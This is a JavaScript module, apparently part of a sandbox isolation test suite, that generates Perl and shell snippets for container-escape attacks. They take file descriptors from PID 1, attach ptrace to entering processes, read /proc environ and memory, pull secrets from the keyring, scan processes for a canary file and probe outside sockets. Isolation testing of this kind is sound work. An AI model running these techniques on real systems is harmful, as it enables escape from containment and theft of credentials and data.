/** Numbers of the system calls that the attacks make without any library. */
const calls = {
  x64: {
    ptrace: 101,
    umount2: 166,
    setxattr: 188,
    add_key: 248,
    keyctl: 250,
    pidfd_open: 434,
    pidfd_getfd: 438,
  },
  arm64: {
    ptrace: 117,
    umount2: 39,
    setxattr: 5,
    add_key: 217,
    keyctl: 219,
    pidfd_open: 434,
    pidfd_getfd: 438,
  },
}[process.arch];

/** Perl as a command of a shell script; perl-base is in every base. */
function perl(text, ...args) {
  return `perl - ${args.join(" ")} <<'PERL'\n${text}\nPERL`;
}

/** Says these lines through the first process's own standard output. */
export function forge(lines) {
  const text = lines.map((line) => `${line}\\n`).join("");
  return perl(`
my $lines = "${text}";
my $p = syscall(${calls.pidfd_open}, 1, 0);
for my $n (0..20) {
  my $f = syscall(${calls.pidfd_getfd}, $p, $n, 0);
  next if $f < 0;
  open(my $o, ">&=", $f) or next;
  print "descriptor $n of the first process taken\\n";
  local $SIG{PIPE} = "IGNORE";
  local $SIG{ALRM} = sub { die };
  eval { alarm 2; syswrite($o, $lines); alarm 0 };
}`);
}

/** Holds the first process by ptrace(2), for as long as the session lives. */
export const holdFirstProcess = perl(`
use POSIX ();
exit if fork;
POSIX::setsid();
open(STDIN, "<", "/dev/null"); open(STDOUT, ">", "/dev/null"); open(STDERR, ">", "/dev/null");
syscall(${calls.ptrace}, 16, 1, 0, 0);
sleep 600;`);

/** Says, for a minute, what it may do to a process that enters the session before that is one of it. */
export function traceEntering(id) {
  return perl(`
use POSIX ();
exit if fork;
POSIX::setsid();
open(STDIN, "<", "/dev/null"); open(STDOUT, ">>", "/var/traced"); open(STDERR, ">&", STDOUT); $| = 1;
my $end = time + 60;
while (time < $end) {
  for my $p (map { m(/(\\d+)$) } glob "/proc/[0-9]*") {
    open(my $f, "<", "/proc/$p/cmdline") or next;
    my $line = do { local $/; <$f> } // "";
    next unless $line =~ /supervise|nsenter|holder/;
    print "seen: entering\\n";
    # It may have become one of the session meanwhile, and that may be traced.
    my $traced = syscall(${calls.ptrace}, 0x4206, $p + 0, 0, 0) == 0;
    open(my $again, "<", "/proc/$p/cmdline") or next;
    print "TRACED-${id} $line\\n" if $traced && (do { local $/; <$again> } // "") eq $line;
    for my $at (qw(environ mem cwd root fd/0 fd/3)) {
      open(my $o, "<", "/proc/$p/$at") and sysread($o, my $text, 10) and print "TRACED-${id} $at $line\\n";
    }
  }
}`);
}

/** Takes mounts away that the session has made. */
export function unmount(...places) {
  return places
    .map((place) =>
      perl(
        `my $place = "${place}"; print "umount $place: ", syscall(${calls.umount2}, $place, 2) == 0 ? "done" : $!, "\\n";`,
      ),
    )
    .join("\n");
}

/** Sets an extended attribute. */
export function setAttribute(file, name, value) {
  return perl(`my ($f, $n, $v) = ("${file}", "${name}", "${value}");
print "setxattr $n: ", syscall(${calls.setxattr}, $f, $n, $v, length $v, 0) == 0 ? "done" : $!, "\\n";`);
}

/**
 * Tries to reach services: each target is tcp|ADDRESS|PORT, udp|ADDRESS|PORT or abstract|NAME. Whoever
 * is reached hears `id`.
 *
 * @param device the sockets are bound to it, which passes routes over
 */
export function connectTo(id, targets, device = "") {
  return perl(
    `use Socket qw(:all);
$SIG{PIPE} = "IGNORE";
$SIG{ALRM} = sub { die "no answer\\n" };
my $who = shift;
for my $target (@ARGV) {
  my ($kind, $host, $port) = split /\\|/, $target;
  my $said = eval {
    alarm 2;
    my $s;
    if ($kind eq "abstract") {
      socket($s, PF_UNIX, SOCK_STREAM, 0) or die "$!\\n";
      # Some programs fill such a name up with zeros.
      connect($s, pack_sockaddr_un("\\0$host")) or connect($s, pack("S a108", PF_UNIX, "\\0$host")) or die "$!\\n";
    } else {
      my $v6 = $host =~ /:/;
      socket($s, $v6 ? PF_INET6 : PF_INET, $kind eq "udp" ? SOCK_DGRAM : SOCK_STREAM, 0) or die "$!\\n";
      my $device = "${device}";
      $device eq "" or setsockopt($s, SOL_SOCKET, 25, "$device\\0") or die "cannot be bound to $device: $!\\n";
      connect($s, $v6 ? pack_sockaddr_in6($port, inet_pton(AF_INET6, $host)) : pack_sockaddr_in($port, inet_aton($host))) or die "$!\\n";
    }
    syswrite($s, "$who\\n") or die "$!\\n";
    "sent\\n";
  } || $@;
  alarm 0;
  print "$target: $said";
}`,
    id,
    ...targets.map((target) => `'${target}'`),
  );
}

/** The program that puts keys (name, text, …, --) into the session's keyring and starts a command in it. */
export const withKeyring = `my ($type, $none) = ("user", 0);
syscall(${calls.keyctl}, 1, $none, 0, 0, 0);
while (@ARGV and (my $name = shift @ARGV) ne "--") {
  my $secret = shift @ARGV;
  for my $ring (-3, -4) { syscall(${calls.add_key}, $type, $name, $secret, length $secret, $ring); }
}
exec @ARGV or die;`;

/** Prints the key that \`withKeyring\` left. */
export function readKey(name) {
  return perl(`my ($type, $name, $room) = ("user", "${name}", "\\0" x 200);
for my $ring (-3, -4, -5) {
  my $id = syscall(${calls.keyctl}, 10, $ring, $type, $name, 0);
  next if $id < 0;
  my $length = syscall(${calls.keyctl}, 11, $id, $room, 200, 0);
  print "key of $ring: ", substr($room, 0, $length), "\\n" if $length > 0;
}`);
}

/** Looks through all descriptors, roots and working folders of all processes for what is ours. */
export function searchProcesses(id) {
  return `for at in /proc/[0-9]*/fd/* /proc/[0-9]*/root /proc/[0-9]*/cwd; do
  for up in . .. ../.. ../../..; do
    for file in "$at/$up/precious.txt" "$at/$up/${id}/precious.txt" "$at/$up/home/${id}/precious.txt"; do
      if [ -f "$file" ]; then echo "FOUND-${id} $file"; cat "$file"; fi
    done
  done
  case $(readlink "$at") in *precious.txt) echo "FOUND-${id} $at"; cat "$at"; echo ${id} >>"$at" ;; esac
done
${perl(`for my $n (3..255) {
  open(my $o, "+>&=", $n) or next;
  my $at = readlink("/proc/self/fd/$n") // "";
  next unless $at =~ /precious|socket:/;
  print "own descriptor $n: $at\\n";
  local $SIG{PIPE} = "IGNORE";
  syswrite($o, "${id}\\n");
}`)}`;
}

/** Looks for a text in the environments of all processes. */
export function searchEnvironments(name) {
  return `env | grep -a "${name}"; cat /proc/[0-9]*/environ 2>/dev/null | tr '\\0' '\\n' | grep -a "${name}" | sort -u`;
}
